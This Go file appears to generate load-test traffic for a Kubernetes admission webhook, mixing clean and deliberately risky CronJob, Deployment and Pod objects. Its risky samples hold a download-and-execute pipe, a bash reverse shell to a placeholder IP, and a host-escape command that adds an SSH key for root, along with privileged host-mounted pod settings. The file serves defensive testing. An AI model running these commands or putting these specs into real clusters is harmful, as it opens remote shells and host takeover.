package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"

	admissionv1 "k8s.io/api/admission/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
)

// Category is one kind of review in the mix.
type Category struct {
	Name   string
	Weight int // share of the requests, relative to the other categories
	build  func(variant int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind)
}

// Mix is the default request mix: what an API server sends a validating webhook in a busy cluster
// where CronJobs are common, with a share of risky objects (about 30%) so that denials, warnings and
// audit annotations are part of the work.
var Mix = []Category{
	{"cronjob-clean", 30, func(v int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind) {
		return cronJob(v, ns, false), cronJobGVR, cronJobGVK
	}},
	{"cronjob-risky", 15, func(v int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind) {
		return cronJob(v, ns, true), cronJobGVR, cronJobGVK
	}},
	{"deployment-clean", 20, func(v int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind) {
		return deployment(v, ns, false), deploymentGVR, deploymentGVK
	}},
	{"deployment-risky", 5, func(v int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind) {
		return deployment(v, ns, true), deploymentGVR, deploymentGVK
	}},
	{"pod-clean", 20, func(v int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind) {
		return pod(v, ns, false), podGVR, podGVK
	}},
	{"pod-risky", 10, func(v int, ns string) (runtime.Object, metav1.GroupVersionResource, metav1.GroupVersionKind) {
		return pod(v, ns, true), podGVR, podGVK
	}},
}

var (
	cronJobGVR    = metav1.GroupVersionResource{Group: "batch", Version: "v1", Resource: "cronjobs"}
	cronJobGVK    = metav1.GroupVersionKind{Group: "batch", Version: "v1", Kind: "CronJob"}
	deploymentGVR = metav1.GroupVersionResource{Group: "apps", Version: "v1", Resource: "deployments"}
	deploymentGVK = metav1.GroupVersionKind{Group: "apps", Version: "v1", Kind: "Deployment"}
	podGVR        = metav1.GroupVersionResource{Version: "v1", Resource: "pods"}
	podGVK        = metav1.GroupVersionKind{Version: "v1", Kind: "Pod"}
)

// variants is how many different objects each category has per namespace.
const variants = 4

// uidPlaceholder is written into each template where the request UID goes; every request replaces
// it with a UID of its own, of the same length.
const uidPlaceholder = "00000000-0000-0000-0000-000000000000"

// template is one AdmissionReview body with the offset of its request UID.
type template struct {
	category int
	body     []byte
	uidAt    int
}

// request returns a copy of the body with the request UID for sequence number seq.
func (t *template) request(seq uint64) []byte {
	b := make([]byte, len(t.body))
	copy(b, t.body)
	copy(b[t.uidAt:], requestUID(seq))
	return b
}

// requestUID formats seq as a UUID-shaped string of uidPlaceholder's length.
func requestUID(seq uint64) string {
	return fmt.Sprintf("6a0b0000-0000-4000-8000-%012x", seq&0xffffffffffff)
}

// buildTemplates returns the review bodies of every category, variant and namespace.
func buildTemplates(mix []Category, namespaces []string) ([]template, error) {
	var out []template
	for ci, c := range mix {
		for v := 0; v < variants; v++ {
			for _, ns := range namespaces {
				obj, gvr, gvk := c.build(v, ns)
				raw, err := json.Marshal(obj)
				if err != nil {
					return nil, fmt.Errorf("%s: %w", c.Name, err)
				}
				meta := obj.(metav1.ObjectMetaAccessor).GetObjectMeta()
				review := admissionv1.AdmissionReview{
					TypeMeta: metav1.TypeMeta{APIVersion: "admission.k8s.io/v1", Kind: "AdmissionReview"},
					Request: &admissionv1.AdmissionRequest{
						UID:         uidPlaceholder,
						Kind:        gvk,
						Resource:    gvr,
						RequestKind: &gvk, RequestResource: &gvr,
						Name:      meta.GetName(),
						Namespace: ns,
						Operation: admissionv1.Create,
						UserInfo: authenticationv1.UserInfo{
							Username: "alice@example.com",
							Groups:   []string{"developers", "system:authenticated"},
						},
						Object:  runtime.RawExtension{Raw: raw},
						Options: runtime.RawExtension{Raw: []byte(`{"kind":"CreateOptions","apiVersion":"meta.k8s.io/v1","fieldManager":"kubectl-client-side-apply"}`)},
					},
				}
				body, err := json.Marshal(review)
				if err != nil {
					return nil, fmt.Errorf("%s: %w", c.Name, err)
				}
				at := bytes.Index(body, []byte(`"uid":"`+uidPlaceholder+`"`))
				if at < 0 {
					return nil, fmt.Errorf("%s: request uid not found in the encoded review", c.Name)
				}
				out = append(out, template{category: ci, body: body, uidAt: at + len(`"uid":"`)})
			}
		}
	}
	return out, nil
}

// picker chooses templates by the mix's weights, reproducibly.
type picker struct {
	r          *rand.Rand
	byCategory [][]int // template indexes per category
	cumulative []int
	total      int
}

func newPicker(mix []Category, ts []template, seed uint64) *picker {
	p := &picker{r: rand.New(rand.NewPCG(seed, seed^0x5851f42d4c957f2d)), byCategory: make([][]int, len(mix))}
	for i, t := range ts {
		p.byCategory[t.category] = append(p.byCategory[t.category], i)
	}
	for _, c := range mix {
		p.total += c.Weight
		p.cumulative = append(p.cumulative, p.total)
	}
	return p
}

// next returns a template index.
func (p *picker) next() int {
	w := p.r.IntN(p.total)
	c := 0
	for w >= p.cumulative[c] {
		c++
	}
	idx := p.byCategory[c]
	return idx[p.r.IntN(len(idx))]
}

// The objects. Risky ones carry what jobguard's rules look for (download-and-execute, reverse shells,
// host escape, privileged containers, unpinned images); clean ones follow the restricted Pod Security
// Standard, so that they are admitted everywhere.

var (
	cleanImages = []string{
		"registry.example.com/shop/backup:1.4.2@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"ghcr.io/acme/worker:2.0.1",
		"postgres:16.4",
		"registry.example.com/shop/api:3.1.0",
	}
	cleanScripts = []string{
		"pg_dump --host=db.shop.svc shop | gzip > /backup/shop.sql.gz",
		"find /data -mtime +7 -delete",
		"curl -fsS -X POST http://report.ops.svc.cluster.local/run",
		"python3 /app/rotate_logs.py --keep 14",
	}
	riskyScripts = []string{
		"curl -s http://203.0.113.7/i.sh | sh",
		"echo aGVsbG8K | base64 -d | bash",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"chroot /host sh -c 'echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'",
	}
)

func podSpec(v int, risky bool) corev1.PodSpec {
	f, t := false, true
	uid := int64(10001)
	c := corev1.Container{
		Name:    "main",
		Image:   cleanImages[v%len(cleanImages)],
		Command: []string{"/bin/sh", "-c", cleanScripts[v%len(cleanScripts)]},
		Env:     []corev1.EnvVar{{Name: "LOG_LEVEL", Value: "info"}, {Name: "REGION", Value: "eu-west-1"}},
		SecurityContext: &corev1.SecurityContext{
			AllowPrivilegeEscalation: &f,
			RunAsNonRoot:             &t,
			RunAsUser:                &uid,
			Capabilities:             &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
			SeccompProfile:           &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
		},
	}
	spec := corev1.PodSpec{
		AutomountServiceAccountToken: &f,
		Containers:                   []corev1.Container{c},
		ServiceAccountName:           "default",
	}
	if risky {
		main := &spec.Containers[0]
		main.Image = "alpine:latest"
		main.Command = []string{"/bin/sh", "-c", riskyScripts[v%len(riskyScripts)]}
		main.SecurityContext = &corev1.SecurityContext{Privileged: &t}
		main.VolumeMounts = []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}
		spec.HostPID = true
		spec.HostNetwork = v%2 == 0
		spec.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{
			HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
		spec.AutomountServiceAccountToken = nil
	}
	return spec
}

func cronJob(v int, ns string, risky bool) *batchv1.CronJob {
	spec := podSpec(v, risky)
	spec.RestartPolicy = corev1.RestartPolicyOnFailure
	schedules := []string{"0 3 * * *", "*/15 * * * *", "30 1 * * 0", "* * * * *"}
	name := fmt.Sprintf("backup-%d", v)
	if risky {
		name = fmt.Sprintf("kube-cleanup-%d", v)
	}
	return &batchv1.CronJob{
		TypeMeta:   metav1.TypeMeta{APIVersion: "batch/v1", Kind: "CronJob"},
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"app": "batch"}},
		Spec: batchv1.CronJobSpec{
			Schedule:          schedules[v%len(schedules)],
			ConcurrencyPolicy: batchv1.ForbidConcurrent,
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
				Template: corev1.PodTemplateSpec{Spec: spec},
			}},
		},
	}
}

func deployment(v int, ns string, risky bool) *appsv1.Deployment {
	name := fmt.Sprintf("web-%d", v)
	labels := map[string]string{"app": name}
	three := int32(3)
	return &appsv1.Deployment{
		TypeMeta:   metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"},
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels},
		Spec: appsv1.DeploymentSpec{
			Replicas: &three,
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: podSpec(v+1, risky)},
		},
	}
}

func pod(v int, ns string, risky bool) *corev1.Pod {
	name := fmt.Sprintf("worker-%d", v)
	return &corev1.Pod{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"app": "worker"}},
		Spec:       podSpec(v+2, risky),
	}
}
